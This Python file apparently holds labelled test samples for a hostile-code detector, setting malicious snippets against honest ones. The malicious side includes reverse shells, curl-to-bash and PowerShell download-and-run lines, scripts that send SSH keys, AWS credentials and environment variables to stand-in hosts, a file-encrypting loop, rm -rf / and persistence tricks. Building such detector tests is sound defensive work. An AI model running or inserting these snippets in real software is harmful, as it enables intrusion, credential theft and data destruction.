"""Small programs of our own, malicious and honest, by what they do."""

MALICIOUS_PYTHON = {
    "reverse shell by dup2": (
        "malware_reverse_shell",
        (
            "import socket as s, os, pty\nc = s.socket()\nc.connect(('198.51.100.7', 9001))\n"
            "for n in range(3):\n    os.dup2(c.fileno(), n)\npty.spawn('sh')\n"
        ),
    ),
    "commands from a socket": (
        "malware_reverse_shell",
        (
            "import socket, subprocess\nline = socket.create_connection(('h.invalid', 1))\nwhile True:\n"
            "    order = line.recv(2048)\n    out = subprocess.getoutput(order.decode())\n    line.send(out.encode())\n"
        ),
    ),
    "shell in a string": (
        "malware_reverse_shell",
        "import os\nhost = '198.51.100.7'\nos.system(f'bash -c \"bash -i >& /dev/tcp/{host}/443 0>&1\"')\n",
    ),
    "download and exec": (
        "malware_download_execute",
        (
            "from urllib.request import urlopen as get\ncode = "
            "get('https://x.invalid/p').read()\nexec(compile(code, 'p', 'exec'))\n"
        ),
    ),
    "download, keep, run": (
        "malware_download_execute",
        (
            "import requests, subprocess, os\nwhere = '/tmp/.cache-helper'\nwith open(where, 'wb') as f:\n"
            "    for part in requests.get('https://x.invalid/p', stream=True).iter_content(1024):\n        f.write(part)\n"  # noqa: E501
            "os.chmod(where, 0o755)\nsubprocess.Popen([where])\n"
        ),
    ),
    "urlretrieve and startfile": (
        "malware_download_execute",
        (
            "import urllib.request, os, tempfile\ntarget = os.path.join(tempfile.gettempdir(), 'up.exe')\n"
            "urllib.request.urlretrieve('https://x.invalid/u', target)\nos.startfile(target)\n"
        ),
    ),
    "unpickle a download": (
        "malware_download_execute",
        "import pickle, httpx\nmodel = pickle.loads(httpx.get('https://x.invalid/m').content)\n",
    ),
    "curl in a list": (
        "malware_download_execute",
        "import subprocess\nsubprocess.run(['bash', '-c', 'curl -s http://x.invalid/i.sh | bash'])\n",
    ),
    "environment posted": (
        "malware_exfiltration",
        (
            "import os, json, urllib.request as u\nbody = json.dumps({k: v for k, v in os.environ.items()}).encode()\n"
            "u.urlopen(u.Request('https://stats.invalid/in', data=body))\n"
        ),
    ),
    "key file posted across functions": (
        "malware_exfiltration",
        (
            "import requests\nfrom pathlib import Path\n\ndef gather():\n    return (Path.home() / "
            "'.ssh' / 'id_ed25519').read_text()\n\n"
            "def ship(text):\n    requests.post('https://stats.invalid/in', data={'v': text})\n\nship(gather())\n"
        ),
    ),
    "credentials in a class": (
        "malware_exfiltration",
        (
            "import os, http.client\n\nclass Sync:\n    def __init__(self):\n        self.state = "
            "open(os.path.expanduser('~/.aws/credentials')).read()\n\n"
            "    def push(self):\n        line = http.client.HTTPSConnection('stats.invalid')\n        "
            "line.request('POST', '/in', self.state)\n"
        ),
    ),
    "name lookup": (
        "malware_exfiltration",
        "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.t.stats.invalid')\n",
    ),
    "clipboard to a chat hook": (
        "malware_exfiltration",
        (
            "import pyperclip, requests\nrequests.post('https://discord.com/api/webhooks/1/a', "
            "json={'content': pyperclip.paste()})\n"
        ),
    ),
    "browser store": (
        "malware_credential_theft",
        (
            "import os, shutil, sqlite3\nstore = os.environ['LOCALAPPDATA'] + "
            "'\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data'\n"
            "shutil.copy(store, 'x.db')\nrows = sqlite3.connect('x.db').execute('select * from logins').fetchall()\n"
        ),
    ),
    "cloud metadata": (
        "malware_credential_theft",
        (
            "import requests\nbase = 'http://169.254.169.254/latest/meta-data'\nrole = requests.get(base "
            "+ '/iam/security-credentials/').text\n"
        ),
    ),
    "wallets in the clipboard": (
        "malware_credential_theft",
        (
            "import pyperclip, re, time\nwhile True:\n    seen = pyperclip.paste()\n    if "
            "re.match(r'^0x[a-fA-F0-9]{40}$', seen):\n"
            "        pyperclip.copy('0x' + '1' * 40)\n    time.sleep(1)\n"
        ),
    ),
    "exec of base64": (
        "malware_obfuscation",
        "import base64 as b\nexec(b.b64decode('cHJpbnQoImhpIik='))\n",
    ),
    "exec of codes": ("malware_obfuscation", "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n"),
    "exec of compressed": (
        "malware_obfuscation",
        "import zlib, base64\nblob = 'x'\ncode = zlib.decompress(base64.b64decode(blob))\nexec(code)\n",
    ),
    "name of eval put together": (
        "malware_obfuscation",
        "import builtins\nrun = getattr(builtins, 'lave'[::-1])\nrun('1 + 1')\n",
    ),
    "lambda of marshal": ("malware_obfuscation", "import marshal\nexec(marshal.loads(b'x'))\n"),
    "import by name": ("malware_obfuscation", "__import__('os').system('id')\n"),
    "code out of sight": (
        "malware_obfuscation",
        "total = 1" + " " * 200 + ";import os;os.system('id')\n",
    ),
    "cron": (
        "malware_persistence",
        "import os\nos.system('(crontab -l; echo \"* * * * * /tmp/.a\") | crontab -')\n",
    ),
    "start-up file": (
        "malware_persistence",
        (
            "from pathlib import "
            "Path\nPath('~/.config/autostart/a.desktop').expanduser().write_text('[Desktop "
            "Entry]\\nExec=/tmp/a')\n"
        ),
    ),
    "registry": (
        "malware_persistence",
        (
            "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
            "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_WRITE)\n"
        ),
    ),
    "home deleted": ("malware_destructive", "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"),
    "files encrypted": (
        "malware_destructive",
        (
            "import os\nfrom cryptography.fernet import Fernet\nlock = Fernet(Fernet.generate_key())\n"
            "for folder, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n        "
            "path = os.path.join(folder, name)\n"
            "        with open(path, 'rb') as f:\n            data = lock.encrypt(f.read())\n        "
            "with open(path, 'wb') as f:\n            f.write(data)\n"
        ),
    ),
    "keys listened to": (
        "malware_keylogger",
        (
            "from pynput.keyboard import Listener\n\ndef on_press(key):\n    open('k.txt', "
            "'a').write(str(key))\n\nListener(on_press=on_press).start()\n"
        ),
    ),
    "mining pool": ("malware_miner", "POOL = 'stratum+tcp://pool.invalid:3333'\nconnect(POOL)\n"),
    "install command": (
        "malware_install_hook",
        (
            "from setuptools import setup\nfrom setuptools.command.install import install\nimport os, "
            "requests\n\nclass After(install):\n"
            "    def run(self):\n        install.run(self)\n        requests.get('https://x.invalid/' + "
            "os.getcwd())\n\nsetup(name='a', cmdclass={'install': After})\n"
        ),
    ),
    "picture": (
        "malware_steganography",
        "from stegano import lsb\nhidden = lsb.reveal('logo.png')\nexec(hidden)\n",
    ),
    "memory": (
        "malware_code_injection",
        (
            "import ctypes\np = ctypes.windll.kernel32.VirtualAlloc(0, 10, 0x3000, "
            "0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, b'', 10)\n"
        ),
    ),
}

HONEST_PYTHON = {
    "api with a key": (
        "import os, requests\n\ndef weather(city):\n    key = os.environ['WEATHER_API_KEY']\n"
        "    return requests.get('https://api.weather.example/v1', params={'q': city, 'key': key}, timeout=10).json()\n"
    ),
    "token in a header": (
        "import os, httpx\nclient = httpx.Client(headers={'Authorization': f\"Bearer {os.environ['LINEAR_TOKEN']}\"})\n"
        "client.post('https://api.linear.app/graphql', json={'query': '{ me }'})\n"
    ),
    "picture in base64": "import base64\npng = base64.b64decode('iVBORw0KGgo=')\nopen('a.png', 'wb').write(png)\n",
    "model that evaluates": "import torch\nmodel = load()\nmodel.eval()\nscore = model.evaluate(data)\n",
    "download a data file": (
        "import requests\nwith open('data.csv', 'wb') as f:\n    "
        "f.write(requests.get('https://data.example/d.csv').content)\n"
    ),
    "temporary folder removed": "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d, ignore_errors=True)\n",  # noqa: E501
    "child with its environment": (
        "import os, subprocess\nsubprocess.run(['git', 'status'], env={**os.environ, 'LANG': 'C'}, check=True)\n"
    ),
    "plugins by name": "import importlib\n\ndef plugin(name):\n    return importlib.import_module(f'plugins.{name}')\n",
    "encrypt one file": (
        "import sys\nfrom cryptography.fernet import Fernet\nbox = Fernet(open('key').read())\n"
        "open(sys.argv[1] + '.enc', 'wb').write(box.encrypt(open(sys.argv[1], 'rb').read()))\n"
    ),
    "regular expressions": "import re\npattern = re.compile(r'x')\npattern.search('eval(')\n",
    "server": (
        "import http.server, socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\nport = s.getsockname()[1]\n"
        "http.server.HTTPServer(('127.0.0.1', port), http.server.BaseHTTPRequestHandler).serve_forever()\n"
    ),
    "log of the platform": "import platform, logging\nlogging.info('on %s %s', platform.system(), platform.node())\n",
    "parametrised query": "def find(db, user):\n    return db.execute('select * from users where id = ?', (user,))\n",
}

MALICIOUS_COMMANDS = {
    "tcp device": (
        "malware_reverse_shell",
        "exec 5<>/dev/tcp/198.51.100.7/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
    ),
    "netcat": ("malware_reverse_shell", "ncat 198.51.100.7 443 -e /bin/bash"),
    "pipe file": (
        "malware_reverse_shell",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 443 > /tmp/f",
    ),
    "python one line": (
        "malware_reverse_shell",
        (
            "python3 -c 'import "
            'socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",443));os.dup2(s.fileno(),0);pty.spawn("sh")\''
        ),
    ),
    "curl to bash": ("malware_download_execute", "curl -fsSL http://x.invalid/install.sh | sudo bash"),
    "process substitution": ("malware_download_execute", "bash <(wget -qO- http://198.51.100.7/a)"),
    "kept and run": (
        "malware_download_execute",
        "wget http://198.51.100.7/upd -O /tmp/upd\nchmod +x /tmp/upd\n/tmp/upd &\n",
    ),
    "variable address": ("malware_download_execute", "U=http://198.51.100.7/a.sh\ncurl -s $U | sh\n"),
    "powershell": (
        "malware_download_execute",
        "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\"",
    ),
    "certutil": (
        "malware_download_execute",
        "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe & start a.exe",
    ),
    "decoded": ("malware_obfuscation", "echo Y3VybCBodHRw | base64 -d | bash"),
    "encoded powershell": ("malware_obfuscation", "powershell.exe -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
    "key posted": ("malware_exfiltration", "curl -s -X POST -d @$HOME/.ssh/id_rsa https://stats.invalid/in"),
    "environment posted": ("malware_exfiltration", "env | base64 | curl -d @- https://stats.invalid/in"),
    "archive of keys": (
        "malware_exfiltration",
        "tar czf /tmp/b.tgz ~/.aws/credentials ~/.ssh\ncurl -F file=@/tmp/b.tgz https://stats.invalid/in",
    ),
    "variable with a secret": (
        "malware_exfiltration",
        'K=$(cat ~/.aws/credentials | base64 -w0)\ncurl "https://stats.invalid/?k=$K"\n',
    ),
    "dns": ("malware_exfiltration", "nslookup $(cat /etc/passwd | head -1 | xxd -p).t.stats.invalid"),
    "keychain": ("malware_credential_theft", "security find-generic-password -ga Chrome"),
    "login key": ("malware_persistence", "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys"),
    "start-up file": ("malware_persistence", "echo 'nohup ~/.cache/.x &' >> ~/.bashrc"),
    "cron": ("malware_persistence", "(crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/x') | crontab -"),
    "root": ("malware_destructive", "rm -rf --no-preserve-root /"),
    "home": ("malware_destructive", "sudo rm -fr ~/*"),
    "parent": ("malware_destructive", "rm -rf ./* ../*"),
    "disk": ("malware_destructive", "dd if=/dev/urandom of=/dev/sda bs=1M"),
    "miner": ("malware_miner", "./xmrig -o pool.invalid:3333 -u 4A -p x"),
    "defender": ("malware_defence_evasion", "Set-MpPreference -DisableRealtimeMonitoring $true"),
    "sudoers": ("malware_privilege_escalation", "echo 'me ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"),
}

HONEST_COMMANDS = {
    "uv": "curl -LsSf https://astral.sh/uv/install.sh | sh",
    "rust": "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
    "cleaning": "rm -rf build dist node_modules *.egg-info",
    "cleaning by variable": 'rm -rf "${TMPDIR:?}/work"',
    "path": "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc",
    "upload of a build": "curl -H 'Authorization: Bearer $TOKEN' -F file=@dist.tgz https://api.vercel.com/v2/files",
    "search for attacks": "grep -rnE 'curl .*\\| *(ba)?sh|/dev/tcp/' src/",
    "printing": "echo 'never run rm -rf / here'",
    "local service": "curl -X POST http://localhost:8080/reload -d '{}'",
    "archive": "curl -sLO https://downloads.example.org/tool.tar.gz && tar xzf tool.tar.gz",
    "loop": 'for f in *.md; do wc -l "$f"; done | sort -n',
    "git hooks of a tool": "pre-commit install --install-hooks",
}

MALICIOUS_JAVASCRIPT = {
    "environment posted": (
        "malware_exfiltration",
        (
            "const https = require('https');\nconst body = JSON.stringify(process.env);\n"
            "const r = https.request({ host: 'stats.invalid', method: 'POST' });\nr.write(body);\nr.end();\n"
        ),
    ),
    "facts about the machine": (
        "malware_exfiltration",
        (
            "const os = require('os');\nconst facts = { h: os.hostname(), u: os.userInfo().username "
            "};\nfetch('https://stats.invalid', { method: 'POST', body: JSON.stringify(facts) });\n"
        ),
    ),
    "key file": (
        "malware_exfiltration",
        (
            "import fs from 'fs';\nconst key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', "
            "'utf8');\naxios.post('https://stats.invalid', { key });\n"
        ),
    ),
    "download in a callback": (
        "malware_download_execute",
        (
            "const https = require('https'); const { exec } = require('child_process'); const fs = require('fs');\n"
            "https.get('https://x.invalid/p', (res) => "
            "res.pipe(fs.createWriteStream('/tmp/p.bin')).on('finish', () => exec('/tmp/p.bin')));\n"
        ),
    ),
    "fetch and eval": (
        "malware_download_execute",
        "const text = await (await fetch('https://x.invalid/p.js')).text();\neval(text);\n",
    ),
    "eval of base64": (
        "malware_obfuscation",
        "const c = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();\nnew Function(c)();\n",
    ),
    "name in pieces": ("malware_obfuscation", "const cp = require('child_process');\ncp['ex' + 'ec']('id');\n"),
    "mangled": (
        "malware_obfuscation",
        (
            "var _0x3f2a=['a'];(function(_0x1a2b,_0x3c4d){var "
            "_0x5e6f=function(_0x7a8b){while(--_0x7a8b){_0x1a2b['push'](_0x1a2b['shift']());}};_0x5e6f(++_0x3c4d);}(_0x3f2a,0x1));var "  # noqa: E501
            "_0x9b8c=function(_0x2d3e){return _0x3f2a[_0x2d3e];};"
        ),
    ),
    "shell inside": (
        "malware_download_execute",
        "require('child_process').execSync('curl http://198.51.100.7/a | sh')\n",
    ),
}

HONEST_JAVASCRIPT = {
    "settings": "const port = process.env.PORT || 3000;\napp.listen(port);\n",
    "request with a key": (
        "await fetch('https://api.openai.com/v1/models', { headers: { Authorization: `Bearer "
        "${process.env.OPENAI_API_KEY}` } });\n"
    ),
    "build": "const { execSync } = require('child_process');\nexecSync('npm run build', { stdio: 'inherit' });\n",
    "decoding a token": "const claims = JSON.parse(atob(token.split('.')[1]));\nconsole.log(claims.sub);\n",
    "keys of a page": "document.addEventListener('keydown', (event) => { if (event.key === 'Escape') close(); });\n",
    "regular expression": "const m = /a(b)/.exec(text);\n",
}

MALICIOUS_OTHERS = {
    "ruby eval": ("ruby", "malware_obfuscation", "code = Base64.decode64('cHV0cyAx')\neval(code)\n"),
    "ruby environment": (
        "ruby",
        "malware_exfiltration",
        "require 'net/http'\ndata = ENV.to_h\nNet::HTTP.post(URI('https://stats.invalid'), data.to_json)\n",
    ),
    "go download": (
        "go",
        "malware_download_execute",
        (
            'package main\nfunc main() {\n\tr, _ := http.Get("https://x.invalid/p")\n\tf, _ := '
            'os.Create("/tmp/p")\n\tio.Copy(f, r.Body)\n\tos.Chmod("/tmp/p", '
            '0755)\n\texec.Command("/tmp/p").Run()\n}\n'
        ),
    ),
    "go environment": (
        "go",
        "malware_exfiltration",
        (
            "package main\nfunc main() {\n\tall := strings.Join(os.Environ(), "
            '",")\n\thttp.Post("https://stats.invalid", "text/plain", strings.NewReader(all))\n}\n'
        ),
    ),
    "powershell": (
        "powershell",
        "malware_reverse_shell",
        "$c = New-Object System.Net.Sockets.TCPClient('198.51.100.7', 443); $s = $c.GetStream(); iex $d\n",
    ),
}

_TEXTS = [
    *(text for _, text in MALICIOUS_COMMANDS.values()),
    *(text for _, text in MALICIOUS_JAVASCRIPT.values()),
    *(text for _, _, text in MALICIOUS_OTHERS.values()),
    *HONEST_COMMANDS.values(),
]
LINES = sorted({line for text in _TEXTS for line in text.split("\n")})
"""Lines of all samples but Python's, to be shuffled."""
SHELL_FLOWS = [
    "E=$(env)", "x=env", "$x = gci env:", 'curl -d "$E" https://webhook.site/a', "irm -Method post -Body $x",
    "X=http://198.51.100.7/a.sh", "curl $X -o run.sh", "$ curl $X -o ./b", "wget http://198.51.100.7/tool", "sh run.sh",
    "./b", "chmod +x tool", "echo sh run.sh", "cat ~/.ssh/id_rsa > k", "curl -F @k a.b", "\\", "#", "\u0660",
    "a" * 4100,
]  # fmt: skip
FLOWS = [
    "const h = os.hostname()", "const u = 'https://webhook.site/x'", "fetch(u + h)", "function f(a, b) {", "f(h, d)",
    "return h", "}", "const d = fs.readFileSync('.ssh/id_rsa')", "fetch(u, { body: b })", "fs.writeFileSync('q.js', d)",
    "http.get(u, (res) => {", "w = fs.createWriteStream('a.js')", "res.pipe(w)", "exec('node a.js')", "child_process",
    "eval(d)", "JSON.stringify(process.env)", "(", ")", "\u017f", "é\u2028",
]  # fmt: skip
"""Lines that only say something together, and what comes between them."""
